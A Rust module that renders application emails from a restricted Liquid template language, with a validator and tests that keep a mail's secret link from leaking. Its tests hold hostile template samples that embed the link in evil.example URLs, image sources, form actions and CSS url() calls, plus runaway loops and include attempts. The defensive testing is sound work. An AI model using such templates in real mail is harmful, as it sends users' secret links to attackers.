//! Mails in an application's own words: Liquid, without anything that could take long or reach out.
//!
//! There are conditions and a few filters, but no loops, no assignments and no includes, so a template ends after as many
//! steps as it has signs, and writes a small multiple of them. Values are defused as in our own mails and, in the HTML,
//! escaped before they are put in; a filter that could undo either is not there.

mod liquid;
mod object;

use std::collections::BTreeMap;

use super::{Mail, Sender};
use crate::pages::clean::one_line;
use domain::outbox::MessageKind;
use domain::template::Template;
use liquid::part;
use object::object;

/// What a template can say, by name.
pub type Values = BTreeMap<&'static str, Value>;

/// One thing that a template can say.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Value {
    /// Words.
    Text(String),
    /// Yes or no.
    Flag(bool),
    /// There is none: false in a condition.
    Absent,
    /// The user's metadata, by name. What is not in it is absent, whatever a template asks for.
    Data(serde_json::Map<String, serde_json::Value>),
}

/// What holds the user's metadata, as in `{{ metadata.plan }}`.
pub(super) const METADATA: &str = "metadata";

impl From<String> for Value {
    fn from(text: String) -> Self {
        Self::Text(text)
    }
}

impl From<Option<String>> for Value {
    fn from(text: Option<String>) -> Self {
        text.map_or(Self::Absent, Self::Text)
    }
}

impl From<bool> for Value {
    fn from(flag: bool) -> Self {
        Self::Flag(flag)
    }
}

/// What can be said in every mail.
pub(super) fn common(sender: &Sender<'_>) -> Values {
    let w = sender.wording;
    BTreeMap::from([
        ("application", sender.application().into()),
        ("language", w.language().to_owned().into()),
        ("direction", w.direction().as_str().to_owned().into()),
        (METADATA, Value::Data(serde_json::Map::new())),
        (
            "support",
            sender.brand.support().map(|support| one_line(&support.shown)).into(),
        ),
    ])
}

/// Why a template was refused.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("line {line}, column {column}: {reason}")]
pub struct InvalidTemplate {
    /// Which of the three: `subject`, `text` or `html`.
    pub part: &'static str,
    /// From 1.
    pub line: usize,
    /// From 1.
    pub column: usize,
    /// Why.
    pub reason: String,
}

/// The mail that `template` makes of `values`. `None` where it cannot, or where its link or code is not where it has to be,
/// which may hang on a value that no example had: then ours is sent, for a mail that somebody waits for is worth more than
/// its wording.
#[must_use]
pub(super) fn render(template: &Template, kind: MessageKind, values: &Values) -> Option<Mail> {
    let part = |name, source: &str, put: fn(&str) -> String| {
        let rendered = part(name, source, &object(values, source, put)).ok()?;
        let misused = secret(kind, values).and_then(|(variable, secret)| misuse(name, variable, secret, &rendered));
        misused.is_none().then_some(rendered)
    };
    Some(Mail {
        subject: one_line(&part("subject", &template.subject, str::to_owned)?),
        text: part("text", &template.text, str::to_owned)?,
        html: part("html", &template.html, escape)?,
    })
}

/// Checks a template with the values of two examples, one with all that there can be and one with nothing that there need
/// not be.
///
/// # Errors
/// Everything that is wrong, with its place.
pub fn check(template: &Template, kind: MessageKind, examples: &[Values]) -> Result<(), Vec<InvalidTemplate>> {
    let mut errors = Vec::new();
    let parts = [
        ("subject", &template.subject),
        ("text", &template.text),
        ("html", &template.html),
    ];
    for (name, source) in parts {
        let wrong = |reason: &str| InvalidTemplate {
            part: name,
            line: 1,
            column: 1,
            reason: reason.to_owned(),
        };
        if source.trim().is_empty() {
            errors.push(wrong("it is empty"));
            continue;
        }
        if name == "subject" && (source.contains(['\n', '\r']) || source.chars().count() > 300) {
            errors.push(wrong("a subject is one line of at most 300 characters"));
        }
        if name == "html" && source.to_ascii_lowercase().contains("<script") {
            errors.push(wrong("no mail program runs scripts"));
        }
        for values in examples {
            let object = if name == "html" {
                object(values, source, escape)
            } else {
                object(values, source, str::to_owned)
            };
            match part(name, source, &object) {
                Err(error) => {
                    if !errors.contains(&error) {
                        errors.push(error);
                    }
                }
                Ok(rendered) => {
                    let secret = secret(kind, values);
                    if let Some(reason) =
                        secret.and_then(|(variable, secret)| misuse(name, variable, secret, &rendered))
                    {
                        let error = wrong(&reason);
                        if !errors.contains(&error) {
                            errors.push(error);
                        }
                    }
                }
            }
        }
    }
    if errors.is_empty() { Ok(()) } else { Err(errors) }
}

/// What the mail is sent for, where it is sent for a link or a code.
fn secret(kind: MessageKind, values: &Values) -> Option<(&'static str, &str)> {
    let name = kind.facts().carries.variable()?;
    match values.get(name) {
        Some(Value::Text(secret)) => Some((name, secret)),
        Some(Value::Flag(_) | Value::Absent | Value::Data(_)) | None => None,
    }
}

/// A mail without its link or code helps nobody, a subject with one ends up in logs, and as part of another address it would
/// reach whoever has that address.
fn misuse(part: &str, variable: &str, secret: &str, rendered: &str) -> Option<String> {
    let found = rendered.contains(secret);
    if part == "subject" {
        return found.then(|| format!("a subject must not hold `{variable}`: it ends up in logs"));
    }
    if !found {
        return Some(format!("it has to hold `{{{{ {variable} }}}}`, whatever else it says"));
    }
    let mut places = rendered.match_indices(secret);
    let stands_alone = places.all(|(at, _)| {
        let before = rendered.get(..at).unwrap_or_default();
        if part == "html" {
            stands_alone_in_html(before)
        } else {
            stands_alone(before)
        }
    });
    (!stands_alone).then(|| format!("`{variable}` must not be part of another address or word"))
}

/// Whether what follows `before` is a word of its own, and nothing that leads to another address.
fn stands_alone(before: &str) -> bool {
    let word = before.rsplit(char::is_whitespace).next().unwrap_or_default();
    word.chars().next_back().is_none_or(|c| "\"'>(:：".contains(c))
        && !word.contains(['/', '?', '@', '=', '&', '#', '%'])
}

/// The same between tags; within a tag it is the whole of a `href`, and no style sheet can fetch it.
fn stands_alone_in_html(before: &str) -> bool {
    let lower = before.to_ascii_lowercase();
    if lower.rfind("<style") > lower.rfind("</style") {
        return false;
    }
    let (tag, text) = (lower.rfind('<'), lower.rfind('>'));
    if tag <= text {
        let since = text.and_then(|at| lower.get(at + 1..)).unwrap_or(&lower);
        return stands_alone(since);
    }
    let tag = tag.and_then(|at| lower.get(at..)).unwrap_or_default();
    tag.starts_with("<a ") && tag.ends_with(" href=\"") && tag.matches('"').count() % 2 == 1 && !tag.contains('\'')
}

/// The text with what HTML takes for markup written as references.
#[must_use]
pub fn escape(text: &str) -> String {
    let mut escaped = String::with_capacity(text.len());
    for c in text.chars() {
        match c {
            '&' => escaped.push_str("&amp;"),
            '<' => escaped.push_str("&lt;"),
            '>' => escaped.push_str("&gt;"),
            '"' => escaped.push_str("&quot;"),
            '\'' => escaped.push_str("&#39;"),
            c => escaped.push(c),
        }
    }
    escaped
}

#[cfg(test)]
mod tests {
    use super::liquid::{bounded, made};
    use super::*;
    use crate::messages::{Sample, example};
    use crate::pages::Brand;
    use crate::wording::Wording;
    use jiff::Timestamp;

    fn example_values(kind: MessageKind, wording: &Wording) -> [Values; 2] {
        let sender = Sender {
            brand: &Brand::default(),
            wording,
        };
        let values = |bare| {
            let sample = Sample::plain("https://id.example", Timestamp::UNIX_EPOCH, bare);
            example(kind, &sample).all_values(&sender)
        };
        [false, true].map(values)
    }

    fn template(text: &str) -> Template {
        Template {
            subject: "Welcome to {{ application }}".to_owned(),
            text: text.to_owned(),
            html: "<p>{{ inviter | default: 'We' }}: <a href=\"{{ link }}\">{{ application | upcase }}</a></p>"
                .to_owned(),
        }
    }

    fn checked(text: &str) -> Result<(), Vec<InvalidTemplate>> {
        let examples = example_values(MessageKind::Invitation, &Wording::default());
        check(&template(text), MessageKind::Invitation, &examples)
    }

    #[track_caller]
    fn refused(text: &str) -> InvalidTemplate {
        checked(text).unwrap_err().remove(0)
    }

    #[test]
    fn a_template_says_what_it_may_and_escapes_it() {
        let good = "Hi{% if inviter %}, {{ inviter }} asks you in{% endif %}:\n{{ link }}\n{{ expires }}";
        assert_eq!(checked(good), Ok(()));
        let values = Values::from([
            ("application", Value::Text("A & <b>".to_owned())),
            ("inviter", Value::Absent),
            ("link", Value::Text("https://x.example/i/t".to_owned())),
            ("expires", Value::Absent),
        ]);
        let mail = render(&template(good), MessageKind::Invitation, &values).unwrap();
        assert_eq!(mail.subject, "Welcome to A & <b>");
        assert_eq!(mail.text, "Hi:\nhttps://x.example/i/t\n");
        assert_eq!(
            mail.html,
            "<p>We: <a href=\"https://x.example/i/t\">A &AMP; &LT;B&GT;</a></p>"
        );
    }

    #[test]
    fn what_is_wrong_is_told_with_line_and_column() {
        let unknown = refused("Hi\n{{ link }} {{ nobody }}");
        assert_eq!((unknown.part, unknown.line, unknown.column), ("text", 2, 15));
        assert!(unknown.reason.starts_with("there is no `nobody`"), "{unknown}");
        let open = refused("{{ link }}\n{% if inviter %}x");
        assert!(open.line >= 1, "{open}");
        let filter = refused("{{ link }}\n  {{ application | url_encode }}");
        assert_eq!((filter.line, filter.column > 2), (2, true), "{filter}");
        let syntax = refused("{{ link }}\n\n{{ application ");
        assert_eq!(syntax.line, 3, "{syntax}");
    }

    /// Nothing that could take long, reach out, or undo the escaping.
    #[test]
    fn loops_assignments_includes_and_growing_filters_are_not_there() {
        for text in [
            "{{ link }}{% for i in (1..1000000) %}x{% endfor %}",
            "{{ link }}{% assign x = 'y' %}",
            "{{ link }}{% capture x %}y{% endcapture %}",
            "{{ link }}{% include 'secret' %}",
            "{{ link }}{% render 'secret' %}",
            "{{ link }}{% tablerow i in (1..9) %}x{% endtablerow %}",
            "{{ link }}{{ application | replace: '', 'xxxxxxxxxxxx' }}",
            "{{ link }}{{ application | append: application }}",
            "{{ link }}{{ application | url_decode }}",
            "{{ link }}{{ application | strip_html }}",
        ] {
            assert!(checked(text).is_err(), "{text}");
        }
        assert!(checked(&format!("{{{{ link }}}}{}", "{% if again %}".repeat(10_000))).is_err());
    }

    #[test]
    fn a_mail_keeps_its_link_and_gives_it_to_nobody_else() {
        assert!(checked("nothing").unwrap_err()[0].reason.contains("{{ link }}"));
        for text in [
            "https://evil.example/?to={{ link }}",
            "https://evil.example/?to:{{ link }}",
            "https://evil.example/?'{{ link }}",
            "https://evil.example/({{ link }}",
            "https://{{ link }}",
            "me@{{ link }}",
        ] {
            assert!(checked(text).is_err(), "{text}");
        }
        let examples = example_values(MessageKind::Invitation, &Wording::default());
        let html = |html: &str| {
            let template = Template {
                html: html.to_owned(),
                ..template("{{ link }}")
            };
            check(&template, MessageKind::Invitation, &examples)
        };
        for good in [
            "<p>{{ link }}</p>",
            "<a class=\"b\" href=\"{{ link }}\">x</a>",
            "<A HREF=\"{{ link }}\">{{ link }}</A>",
        ] {
            assert_eq!(html(good), Ok(()), "{good}");
        }
        for bad in [
            "<a href=\"https://evil.example/?u: {{ link }}\">x</a>",
            "<a href='https://evil.example/?u=\"{{ link }}'>x</a>",
            "<img src=\"{{ link }}\">",
            "<form action=\"{{ link }}\">",
            "<img alt=\"x\" src=\"https://evil.example/? href=\"{{ link }}\">",
            "<style>p { background: url(\"https://evil.example/? {{ link }}\") }</style>",
            "<p>https://evil.example/?{{ link }}</p>",
        ] {
            assert!(html(bad).is_err(), "{bad}");
        }
        assert!(
            checked("{% if inviter %}{{ link }}{% endif %}").is_err(),
            "not in every case"
        );
        let mut loud = template("{{ link }}");
        loud.subject = "{{ link }}".to_owned();
        let examples = example_values(MessageKind::Invitation, &Wording::default());
        assert!(check(&loud, MessageKind::Invitation, &examples).is_err());
    }

    /// M2: the parser below calls itself, and gives up the process where it is led too deep.
    #[test]
    fn m2_no_template_leads_the_parser_too_deep_or_into_a_panic() {
        const PIECES: &str = concat!(
            "{{¦}}¦{{-¦-}}¦{%¦%}¦{%-¦-%}¦if ¦endif¦unless ¦endunless¦case ¦when ¦endcase¦else¦elsif ¦",
            "comment¦endcomment¦raw¦endraw¦link¦inviter¦a¦[¦]¦a[¦[0]¦.¦..¦(¦)¦|¦default:¦upcase¦strip¦,¦:¦'¦",
            "\"¦'x'¦==¦!=¦<¦>¦ contains ¦ or ¦ and ¦0¦-1¦9999999999¦1.5¦nil¦empty¦blank¦true¦ ¦\n¦é¦",
            "{% if a %}¦{% endif %}¦{{ link }}¦{% case a %}¦{% when 1 %}",
        );
        let examples = example_values(MessageKind::Invitation, &Wording::default());
        test_support::hostile::survives(include_str!("../../corpora/liquid.json"), PIECES, |text| {
            // Without what would catch a panic.
            let wrong = |line, column, reason: &str| InvalidTemplate {
                part: "text",
                line,
                column,
                reason: reason.to_owned(),
            };
            if bounded(text).is_ok() {
                for values in &examples {
                    let _ = made(text, &object(values, text, escape), &wrong);
                }
            }
            let _ = checked(&format!("{{{{ link }}}}{text}"));
        });
    }

    #[test]
    fn m2_what_is_too_deep_in_a_template_is_told_with_its_place() {
        let deep = |open: &str, times: usize| format!("{{{{ link }}}}\n  {{{{ a{} }}}}", open.repeat(times));
        let brackets = refused(&deep("[a", 3_000));
        assert_eq!((brackets.line, brackets.column), (2, 3), "{brackets}");
        assert!(brackets.reason.contains("brackets"), "{brackets}");
        assert!(
            refused("{{ \"}}\" | default: a[a[a[a[a[a[a[a[a[a }}")
                .reason
                .contains("brackets")
        );
        assert!(refused("{{ ' {{ a[a[a[a[a[a[a[a[a[a }}").reason.contains("brackets"));
        assert!(refused("{{ 99999999999999999999 }}").reason.contains("digits"));
        assert!(refused(&deep(" | upcase", 300)).reason.contains("1000 characters"));
        assert!(refused(&" ".repeat(600)).reason.contains("empty"));
        assert!(refused(&format!("x{}x", " ".repeat(600))).reason.contains("blanks"));
        assert!(refused(&"{{ link }}".repeat(1_001)).reason.contains("too many"));
        let fine = "{% if inviter == 'a [[[[[[[[[[ 99999999999999999999' %}x{% endif %}{{ link }} [[[[[[[[[[[[";
        assert_eq!(checked(fine), Ok(()));
    }

    #[test]
    fn every_kind_has_values_for_its_template() {
        for kind in MessageKind::with_template() {
            for values in example_values(kind, &Wording::default()) {
                assert!(
                    values.contains_key("application") && values.contains_key("language"),
                    "{kind:?}"
                );
            }
        }
    }
}
